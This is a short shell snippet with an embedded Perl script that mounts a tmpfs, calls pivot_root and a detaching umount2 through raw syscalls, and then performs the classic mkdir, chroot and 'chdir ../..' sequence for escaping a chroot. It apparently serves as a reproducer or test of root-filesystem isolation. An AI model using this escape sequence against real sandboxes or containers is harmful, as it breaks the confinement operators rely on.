mount -t tmpfs -o size=4M tmpfs stage/new
touch stage/new/INSIDE
cat >pivot.pl <<'END'
chdir "stage/new" or die "chdir: $!";
my $dot = ".";
syscall(155, $dot, $dot) == 0 or die "pivot_root: $!";
syscall(166, $dot, 2) == 0 or die "umount2: $!";
chdir "/"; mkdir "x"; chroot "x" or die "chroot: $!";
chdir "../../../../../../../.."; chroot ".";
sleep 1000;
END
perl pivot.pl
